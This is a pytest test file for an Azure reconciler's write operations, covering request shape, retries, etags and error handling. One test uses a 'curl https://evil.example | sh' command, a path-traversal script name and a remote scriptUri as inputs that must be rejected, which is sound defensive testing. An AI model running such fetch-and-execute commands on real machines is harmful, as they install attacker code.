"""Each operation of a plan is one request: its method, path and body on the wire, and what comes of the answers."""

import json
from pathlib import Path

import pytest
from azure.core.exceptions import IncompleteReadError

from reconciler.cloud.guest_scripts import script_text
from reconciler.core.errors import CloudError
from reconciler.core.guest_scripts import LINUX_PROXY
from reconciler.core.ids import VaultRef, VmRef
from reconciler.core.plan import Operation, Write
from tests.cloud.canned import (
    ARM,
    COMMAND_ID,
    FIREWALL,
    GROUP_ID,
    NSG,
    RULE_ID,
    SUBSCRIPTION,
    VAULT,
    VM,
    Canned,
    Reply,
    error,
)

ITEM = (
    f"{VAULT.id}/backupFabrics/Azure/protectionContainers/IaasVMContainer%3Biaasvmcontainerv2%3Brg-app%3Bvm-web-01"
    "/protectedItems/VM%3Biaasvmcontainerv2%3Brg-app%3Bvm-web-01"
)
BODY: dict[str, object] = {
    "properties": {"policyId": "", "nested": {"list": [1, None, {"x": "2026-11-22T23:00:00Z"}], "instantRPDetails": {}}}
}
SCRIPT = {"source": {"script": "linux-proxy.sh"}, "parameters": [{"name": "AZBACKUP_ACTION", "value": "undo"}]}
RESOURCES: dict[str, tuple[str, dict[str, object]]] = {
    "security_rule": (RULE_ID, BODY),
    "firewall": (FIREWALL.id, {"etag": "6e38a7fa", **BODY}),
    "rule_collection_group": (GROUP_ID, BODY),
    "run_command": (COMMAND_ID, {"location": "westeurope", "properties": SCRIPT}),
}
CASES: list[tuple[Operation, str, str]] = [
    ("vault.create", "PUT", f"{VAULT.id}?api-version=2026-11-01"),
    ("vault.update", "PATCH", f"{VAULT.id}?api-version=2026-11-01"),
    ("storage_config.update", "PUT", f"{VAULT.id}/backupstorageconfig/vaultstorageconfig?api-version=2026-10-01"),
    ("vault_config.update", "PATCH", f"{VAULT.id}/backupconfig/vaultconfig?api-version=2026-10-01"),
    ("policy.put", "PUT", f"{VAULT.id}/backupPolicies/daily-2300?api-version=2026-10-01"),
    ("item.put", "PUT", f"{ITEM}?api-version=2026-10-01"),
    ("item.delete", "DELETE", f"{ITEM}?api-version=2026-10-01"),
    ("item.backup", "POST", f"{ITEM}/backup?api-version=2026-10-01"),
    ("security_rule.put", "PUT", f"{RULE_ID}?api-version=2026-03-01"),
    ("security_rule.delete", "DELETE", f"{RULE_ID}?api-version=2026-03-01"),
    ("firewall.put", "PUT", f"{FIREWALL.id}?api-version=2026-03-01"),
    ("rule_collection_group.put", "PUT", f"{GROUP_ID}?api-version=2026-03-01"),
    ("rule_collection_group.delete", "DELETE", f"{GROUP_ID}?api-version=2026-03-01"),
    ("run_command.put", "PUT", f"{COMMAND_ID}?api-version=2026-04-01"),
    ("run_command.delete", "DELETE", f"{COMMAND_ID}?api-version=2026-04-01"),
]
OPERATIONS = [case[0] for case in CASES]


def write(operation: Operation) -> Write:
    subject, _, verb = operation.partition(".")
    if subject in RESOURCES:
        resource_id, body = RESOURCES[subject]
        return Write(operation, body=None if verb == "delete" else body, resource_id=resource_id)
    return Write(operation, VAULT, None if verb == "delete" else BODY, "daily-2300", VM)


def sent_body(operation: Operation) -> object:
    """What is to arrive: the name of a guest script stands for its text."""
    if operation != "run_command.put":
        return write(operation).body
    return {"location": "westeurope", "properties": {**SCRIPT, "source": {"script": script_text(LINUX_PROXY)}}}


@pytest.mark.parametrize(("operation", "method", "url"), CASES, ids=OPERATIONS)
def test_an_operation_is_one_request(operation: Operation, method: str, url: str) -> None:
    canned = Canned(Reply(200, {}))
    accepted = canned.azure.send(write(operation), "6b1d6c3c-0001")
    assert [(sent.method, sent.url.removeprefix(ARM)) for sent in canned.sent] == [(method, url)]
    assert canned.sent[0].body == sent_body(operation)
    assert canned.sent[0].headers["x-ms-client-request-id"] == "6b1d6c3c-0001"
    assert (accepted.operation_url, accepted.retry_after_seconds) == ("", 0.0)


def test_every_operation_has_a_case() -> None:
    from reconciler.cloud.writes import OPERATIONS as KNOWN

    assert list(KNOWN) == OPERATIONS


@pytest.mark.parametrize("operation", OPERATIONS)
@pytest.mark.parametrize("status", [200, 201, 202, 204])
@pytest.mark.parametrize(
    ("retry_after", "seconds"),
    [
        ("60", 60.0),
        (None, 10.0),
        ("2.5", 2.5),
        ("", 10.0),
        ("Sun, 22 Nov 2026 09:00:30 GMT", 30.0),
        ("soon", 10.0),
        ("9e9", 300.0),
    ],
)
def test_accepted_is_accepted_whatever_the_sdk_makes_of_it(
    operation: Operation, status: int, retry_after: str | None, seconds: float
) -> None:
    """The SDK raises for statuses it does not expect, for a 200 without a body, and for a Retry-After that is no whole number."""
    url = f"{ARM}{VAULT.id}/backupOperations/1?api-version=2026-10-01&t=1&s=2"
    headers = {"Azure-AsyncOperation": url, "Location": f"{ARM}{VAULT.id}/backupOperationResults/1"}
    if retry_after is not None:
        headers["Retry-After"] = retry_after
    accepted = Canned(Reply(status, None, headers)).azure.send(write(operation), "id")
    assert (accepted.operation_url, accepted.retry_after_seconds) == (url, seconds)


def test_location_is_followed_when_there_is_nothing_better() -> None:
    url = f"{ARM}{VAULT.id}/backupFabrics/Azure/operationResults/1"
    assert Canned(Reply(202, None, {"location": url})).azure.send(write("item.put"), "id").operation_url == url


@pytest.mark.parametrize("operation", OPERATIONS)
def test_a_broken_body_does_not_undo_an_acceptance(operation: Operation) -> None:
    assert Canned(Reply(200, b"<html>")).azure.send(write(operation), "id").operation_url == ""


@pytest.mark.parametrize("operation", OPERATIONS)
def test_a_body_that_breaks_off_changes_nothing_about_the_status(operation: Operation) -> None:
    headers = {"Location": f"{ARM}{VAULT.id}/backupOperationResults/1"}
    accepted = Canned(Reply(202, IncompleteReadError("half"), headers)).azure.send(write(operation), "id")
    assert accepted.operation_url == headers["Location"]
    with pytest.raises(CloudError) as caught:
        Canned(Reply(400, IncompleteReadError("half"))).azure.send(write(operation), "id")
    assert (caught.value.status, caught.value.sent) == (400, False)


@pytest.mark.parametrize("operation", OPERATIONS)
@pytest.mark.parametrize(
    ("status", "code", "transient"),
    [
        (400, "BMSUserErrorInvalidPolicyInput", False),
        (400, "CloudInternalError", True),
        (403, "AuthorizationFailed", False),
        (404, "ResourceGroupNotFound", False),
        (409, "BMSUserErrorObjectLocked", True),
        (409, "RSVaultUpdateErrorConflictingOperationInProgress", True),
        (409, "ScopeLocked", False),
        (412, "", False),
    ],
)
def test_a_refusal_had_no_effect(operation: Operation, status: int, code: str, transient: bool) -> None:
    canned = Canned(error(status, code, "Something is wrong."))
    with pytest.raises(CloudError) as caught:
        canned.azure.send(write(operation), "id")
    raised = caught.value
    assert (raised.status, raised.service_code, raised.transient, raised.sent) == (status, code, transient, False)
    assert "Something is wrong." in raised.problem.why
    assert len(canned.sent) == 1


def test_a_body_goes_out_as_it_is() -> None:
    """Nulls stay, texts that look like dates stay texts, nothing is stripped because a model calls it read-only."""
    body = {
        "properties": {
            "protectedItemsCount": 3,
            "policyId": None,
            "schedulePolicy": {"scheduleRunTimes": ["2026-11-22T23:00:00Z"]},
        }
    }
    canned = Canned(Reply(200, {}))
    canned.azure.send(Write("policy.put", VAULT, body, "p"), "id")
    assert canned.sent[0].body == body


def test_a_body_that_is_no_json_is_a_mistake_of_ours() -> None:
    canned = Canned(Reply(202))
    with pytest.raises(TypeError, match="not JSON serializable"):
        canned.azure.send(Write("policy.put", VAULT, {"x": object()}, "p"), "id")
    assert canned.sent == []


def test_a_body_written_back_counts_only_while_it_is_what_was_read() -> None:
    """In bodies the etag of firewalls is bare, in headers it is quoted (firewallpolicy-rcg-put-201-2022)."""
    cases: list[tuple[Operation, str, str, str | None]] = [
        ("firewall.put", FIREWALL.id, "6e38a7fa", '"6e38a7fa"'),
        ("rule_collection_group.put", GROUP_ID, 'W/"6e38a7fa"', 'W/"6e38a7fa"'),
        ("rule_collection_group.put", GROUP_ID, "", None),
    ]
    for operation, resource_id, etag, header in cases:
        canned = Canned(Reply(200, {}))
        canned.azure.send(Write(operation, body={"etag": etag, "properties": {}}, resource_id=resource_id), "id")
        assert canned.sent[0].headers.get("If-Match") == header
    canned = Canned(error(412, "PreconditionFailed"))
    with pytest.raises(CloudError) as caught:
        canned.azure.send(write("firewall.put"), "id")
    assert (caught.value.transient, caught.value.sent) == (True, False)  # look again, then perhaps send again


@pytest.mark.parametrize("script", ["curl https://evil.example | sh", "../guest/linux-proxy.sh", "", None])
def test_only_a_script_that_ships_reaches_a_guest(script: str | None) -> None:
    canned = Canned(Reply(200, {}))
    body = {"properties": {"source": {"script": script, "scriptUri": "https://evil.example/x.sh"}}}
    with pytest.raises(ValueError, match="no guest script"):
        canned.azure.send(Write("run_command.put", body=body, resource_id=COMMAND_ID), "id")
    assert canned.sent == []


def test_nothing_comes_along_with_a_script() -> None:
    canned = Canned(Reply(200, {}))
    body = {"properties": {"source": {"script": "linux-proxy.sh", "scriptUri": "https://evil.example/x.sh"}}}
    canned.azure.send(Write("run_command.put", body=body, resource_id=COMMAND_ID), "id")
    assert canned.sent[0].body["properties"]["source"] == {"script": script_text(LINUX_PROXY)}
    assert body["properties"]["source"]["script"] == "linux-proxy.sh"  # the plan keeps the name


@pytest.mark.parametrize("operation", [each for each in OPERATIONS if each.partition(".")[0] in RESOURCES])
def test_a_write_to_a_resource_of_another_type_is_a_mistake_of_ours(operation: Operation) -> None:
    """Above all a rule is never written as a whole security group."""
    canned = Canned(Reply(200, {}))
    for resource_id in (NSG.id, VM.id, VAULT.id, f"{NSG.id}/subnets/x"):
        with pytest.raises(ValueError, match="does not write"):
            canned.azure.send(Write(operation, VAULT, {}, resource_id=resource_id), "id")
    assert canned.sent == []


def test_a_write_to_a_vault_that_names_none_is_a_mistake_of_ours() -> None:
    canned = Canned(Reply(202))
    with pytest.raises(ValueError, match="names no vault"):
        canned.azure.send(Write("vault.update", body={}), "id")
    assert canned.sent == []


def test_an_item_without_a_vm_is_a_mistake_of_ours() -> None:
    canned = Canned(Reply(202))
    with pytest.raises(ValueError, match="names no VM"):
        canned.azure.send(Write("item.put", VAULT, {}), "id")
    assert canned.sent == []


def test_subscriptions_do_not_mix() -> None:
    canned = Canned(Reply(200, {}))
    other = VaultRef.of(SUBSCRIPTION.replace("1", "2"), "rg-backup", "rsv-prod")
    for vault in (VAULT, other, VAULT):
        canned.azure.send(Write("policy.put", vault, {}, "p"), "id")
    assert [sent.path for sent in canned.sent] == [f"{vault.id}/backupPolicies/p" for vault in (VAULT, other, VAULT)]


RECORDED: list[tuple[str, Operation]] = [
    ("protecteditem-put-enable-202-2022", "item.put"),
    ("protecteditem-put-stop-retain-202-2025", "item.put"),
    ("protecteditem-put-undelete-202-2022", "item.put"),
    ("protecteditem-delete-202-2022", "item.delete"),
    ("backup-post-202-2022", "item.backup"),
    ("vault-put-201-async-2026", "vault.create"),
    ("vault-put-201-sync-2021", "vault.create"),
    ("vault-patch-202-2026", "vault.update"),
    ("storageconfig-put-lrs-2021", "storage_config.update"),
    ("backupconfig-patch-disable-softdelete-2022", "vault_config.update"),
    ("nsgrule-put-201-2021", "security_rule.put"),
    ("firewallpolicy-rcg-put-201-2022", "rule_collection_group.put"),
    ("policy-put-v1-daily-2022", "policy.put"),
]


def test_recorded_writes_are_what_we_would_send() -> None:
    """Method, path and body of other people's recorded requests come out of our writes, and the answers are understood."""
    folder = Path(__file__).parents[2].parent / "shared" / "azure" / "exchanges"
    if not folder.is_dir():
        print("the recorded exchanges are not here: nothing to compare")
    for name, operation in RECORDED if folder.is_dir() else []:
        exchange = json.loads((folder / f"{name}.json").read_text(encoding="utf-8"))
        request, response = exchange["request"], exchange["response"]
        path = request["path"].partition("?")[0].replace("%3B", ";")
        headers = {key.lower(): value for key, value in response["headers"].items()}
        canned = Canned(Reply(response["status"], response["body"] or None, headers))
        accepted = canned.azure.send(_recorded(operation, path, request["body"]), "id")
        sent = canned.sent[0]
        assert (sent.method, sent.body) == (request["method"], request["body"]), name
        assert sent.path.lower().replace("%3b", ";") == path.lower(), name
        assert accepted.operation_url == headers.get("azure-asyncoperation", ""), name
    missing = {"security_rule.delete", "firewall.put", "rule_collection_group.delete"}
    missing |= {"run_command.put", "run_command.delete"}
    assert {operation for _, operation in RECORDED} == set(OPERATIONS) - missing


def _recorded(operation: Operation, path: str, body: dict[str, object]) -> Write:
    names = path.split("/")
    if operation.partition(".")[0] in RESOURCES:
        return Write(operation, body=body, resource_id=path)
    vm_names = next((part.split(";")[2:] for part in names if part.lower().startswith("vm;")), ["rg", "vm"])
    policy = names[10] if operation == "policy.put" else ""
    vault = VaultRef.of(names[2], names[4], names[8])
    return Write(operation, vault, body, policy, VmRef.of(names[2], *vm_names))
